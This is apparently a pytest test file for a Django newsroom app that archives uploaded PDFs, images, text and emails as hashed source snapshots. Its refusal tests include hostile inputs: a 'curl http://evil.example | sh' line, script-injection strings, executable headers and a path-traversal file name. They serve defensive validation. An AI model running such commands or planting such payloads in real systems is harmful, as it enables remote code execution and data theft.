"""Uploaded documents as sources: checked by size and content, stored once by hash, listed as
archived snapshots."""

from __future__ import annotations

import hashlib
from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from sources.archiving.services import snapshot_upload
from sources.models import Snapshot, Source
from sources.services import source_create

pytestmark = pytest.mark.django_db

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "capture"
PDF = (FIXTURES / "report.pdf").read_bytes()
PNG = (FIXTURES / "pixel.png").read_bytes()
LETTER = (
    b"From: Press Office <press@ministry.example>\r\n"
    b"To: desk@newsroom.example\r\n"
    b"Subject: Re: Request for comment\r\n"
    b"Date: Thu, 10 Apr 2025 14:05:00 +0000\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n\r\n"
    b"The ministry has no information about the two men.\r\n"
)


@pytest.fixture
def source(viewer) -> Source:
    return source_create(actor=viewer, kind="correspondence")


def upload(viewer, source: Source, name: str, data: bytes) -> Snapshot:
    return snapshot_upload(source=source, upload=SimpleUploadedFile(name, data), actor=viewer)


def stored_files() -> list[Path]:
    storage = Snapshot._meta.get_field("file").storage
    return sorted(p for p in Path(storage.location).rglob("*") if p.is_file())


def assert_stored(snapshot: Snapshot, data: bytes, mime_type: str) -> None:
    digest = hashlib.sha256(data).hexdigest()
    assert snapshot.status == Snapshot.Status.ARCHIVED
    assert snapshot.form == Snapshot.Form.UPLOAD
    assert snapshot.content_type == mime_type
    assert snapshot.sha256 == digest
    assert snapshot.size == len(data)
    assert snapshot.file.name.startswith(f"uploads/{digest[:2]}/{digest}")
    assert not snapshot.warc
    with snapshot.file.open("rb") as stored:
        assert stored.read() == data


def test_a_pdf_upload_is_stored_hashed_and_read(viewer, source):
    snapshot = upload(viewer, source, "verification-note.pdf", PDF)

    assert_stored(snapshot, PDF, "application/pdf")
    assert snapshot.file.name.endswith(".pdf")
    assert snapshot.filename == "verification-note.pdf"
    assert snapshot.title == "Verification note: reported deaths of two Chinese volunteers"
    assert snapshot.author == "Claimtrail Verification Desk"
    assert "Sprite and Cola" in snapshot.text
    assert snapshot.created_by == viewer
    source.refresh_from_db()
    assert source.title == snapshot.title
    assert source.author == snapshot.author


def test_a_screenshot_upload_is_stored_without_text(viewer, source):
    snapshot = upload(viewer, source, "screenshot.png", PNG)

    assert_stored(snapshot, PNG, "image/png")
    assert snapshot.file.name.endswith(".png")
    assert snapshot.text == ""
    assert snapshot.title == "screenshot.png"


def test_a_png_named_otherwise_is_stored_by_what_it_is(viewer, source):
    snapshot = upload(viewer, source, "photo.jpg", PNG)

    assert snapshot.content_type == "image/png"
    assert snapshot.file.name.endswith(".png")


def test_a_text_upload_keeps_its_text(viewer, source):
    data = "Notes from the call with the ministry: no comment. — Клара\n".encode()

    snapshot = upload(viewer, source, "call-notes.txt", data)

    assert_stored(snapshot, data, "text/plain")
    assert snapshot.text == data.decode().strip()
    assert snapshot.title == "call-notes.txt"


def test_an_email_upload_yields_subject_sender_and_date(viewer, source):
    snapshot = upload(viewer, source, "reply.eml", LETTER)

    assert_stored(snapshot, LETTER, "message/rfc822")
    assert snapshot.title == "Re: Request for comment"
    assert snapshot.author == "Press Office <press@ministry.example>"
    assert snapshot.published_at == datetime(2025, 4, 10, 14, 5, tzinfo=UTC)
    assert "no information about the two men" in snapshot.text
    source.refresh_from_db()
    assert source.published_at == snapshot.published_at


def test_an_email_in_a_legacy_charset_is_accepted(viewer, source):
    data = LETTER.replace(b"charset=utf-8", b"charset=koi8-r").replace(
        b"The ministry has no information about the two men.",
        "Министерство не располагает сведениями.".encode("koi8-r"),
    )

    snapshot = upload(viewer, source, "reply.eml", data)

    assert "Министерство не располагает сведениями." in snapshot.text


def test_an_email_saved_from_a_mailbox_with_its_from_line_is_accepted(viewer, source):
    data = b"From press@ministry.example Thu Apr 10 14:05:00 2025\n" + LETTER

    snapshot = upload(viewer, source, "reply.eml", data)

    assert snapshot.title == "Re: Request for comment"


def test_the_same_file_twice_is_stored_once_as_two_snapshots(viewer, source):
    first = upload(viewer, source, "note.pdf", PDF)
    other = source_create(actor=viewer, kind="document", title="Another copy")

    second = upload(viewer, other, "copy-of-note.pdf", PDF)

    assert first.pk != second.pk
    assert first.file.name == second.file.name
    assert first.sha256 == second.sha256 == hashlib.sha256(PDF).hexdigest()
    assert len(stored_files()) == 1
    assert Snapshot.objects.count() == 2


def test_an_uploaded_file_name_is_cleaned(viewer, source):
    snapshot = upload(viewer, source, "../../etc/\x07passwd.txt", b"harmless text\n")

    assert snapshot.filename == "_passwd.txt"
    assert ".." not in snapshot.file.name


def test_an_outsider_may_not_upload(outsider, viewer, source):
    with pytest.raises(PermissionDenied):
        upload(outsider, source, "note.pdf", PDF)
    assert stored_files() == []


REFUSED = [
    ("empty.pdf", b"", "empty"),
    ("page.html", b"<!doctype html><html><body><script>alert(1)</script></body></html>", None),
    ("page.txt", b"<!DOCTYPE html>\n<html><script>alert(1)</script></html>", None),
    ("page.txt", b"\xef\xbb\xbf  <html><body onload=alert(1)>", None),
    ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', None),
    ("logo.txt", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', None),
    ("tool", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56, None),
    ("tool.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56, None),
    ("setup.exe", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56, None),
    ("report.pdf", b"#!/bin/sh\ncurl http://evil.example | sh\n", None),
    ("report.pdf", b"<script>alert(document.cookie)</script>", None),
    ("notes.txt", "Заявление министерства".encode("cp1251"), None),
    ("notes.txt", b"text with a \x00 NUL byte", None),
    ("reply.eml", b"\n\nno headers at all", None),
    ("archive.zip", b"PK\x03\x04" + b"\x00" * 60, None),
    ("doc.docx", b"PK\x03\x04" + b"\x00" * 60, None),
]


@pytest.mark.parametrize(
    ("name", "data", "code"), REFUSED, ids=[f"{n}-{i}" for i, (n, _, _) in enumerate(REFUSED)]
)
def test_a_refused_upload_writes_nothing(viewer, source, name, data, code):
    with pytest.raises(ValidationError) as caught:
        upload(viewer, source, name, data)

    assert list(caught.value.message_dict) == ["file"]
    assert caught.value.error_dict["file"][0].code == (code or "unsupported_type")
    assert Snapshot.objects.count() == 0
    assert stored_files() == []


def test_an_upload_over_the_size_limit_is_refused(viewer, source, settings):
    settings.CLAIMTRAIL_UPLOAD_MAX_BYTES = 2000
    data = PDF + b"%" + b" " * 2000

    with pytest.raises(ValidationError) as caught:
        upload(viewer, source, "big.pdf", data)

    error = caught.value.error_dict["file"][0]
    assert error.code == "too_large"
    assert error.message == "The file is larger than the 1.95 KiB limit."
    assert Snapshot.objects.count() == 0
    assert stored_files() == []


def test_an_upload_at_the_size_limit_is_accepted(viewer, source, settings):
    settings.CLAIMTRAIL_UPLOAD_MAX_BYTES = len(PDF)

    assert upload(viewer, source, "exact.pdf", PDF).size == len(PDF)
